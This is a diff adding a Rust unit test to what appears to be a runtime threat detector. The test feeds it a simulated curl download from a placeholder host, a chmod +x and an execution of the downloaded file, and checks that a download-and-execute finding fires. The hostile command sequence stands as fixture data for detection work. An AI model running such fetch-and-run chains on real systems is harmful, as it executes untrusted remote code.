@@ -496,3 +496,50 @@ fn decoders_decode_only_with_their_arguments() {
     assert!(!openssl.decodes(&argv(&["openssl", "enc", "-aes-256-cbc", "-pbkdf2"])));
     assert!(d("uudecode", &[], &[]).decodes(&argv(&["uudecode"])));
 }
+
+#[test]
+fn a_binary_a_downloader_wrote_is_download_and_execute() {
+    let downloaded = |writer_pid: u32| {
+        let mut d = detector();
+        d.process(
+            &exec(&x(
+                20,
+                "/usr/bin/curl",
+                &["curl", "-o", "t", "http://h/t"],
+                None,
+                None,
+            )),
+            &NoLookup,
+        );
+        // Another program under another pid, then the file run.
+        d.process(
+            &exec(&x(21, "/usr/bin/chmod", &["chmod", "+x", "t"], None, None)),
+            &NoLookup,
+        );
+        let Event::Exec(mut run) = exec(&x(22, "/srv/app/t", &["./t"], None, None)) else {
+            unreachable!()
+        };
+        run.written_by = Some(crate::event::Writer {
+            pid: writer_pid,
+            uid: 0,
+            comm: "curl".into(),
+            time: "2026-12-05T01:00:00Z".into(),
+        });
+        d.process(&Event::Exec(run), &NoLookup)
+            .into_iter()
+            .map(|o| o.finding)
+            .filter(|f| {
+                f.context.additional.get("ruleId").map(String::as_str)
+                    == Some("behaviour-download-exec")
+            })
+            .collect::<Vec<_>>()
+    };
+    let found = downloaded(20);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].finding_type, "Execution:Runtime/SuspiciousCommand");
+    assert_eq!(found[0].context.additional["downloadedBy"], "/usr/bin/curl");
+    assert_eq!(found[0].context.file_path.as_deref(), Some("/srv/app/t"));
+    // Written by chmod's pid (not a downloader), or by a pid never seen: nothing.
+    assert!(downloaded(21).is_empty());
+    assert!(downloaded(99).is_empty());
+}
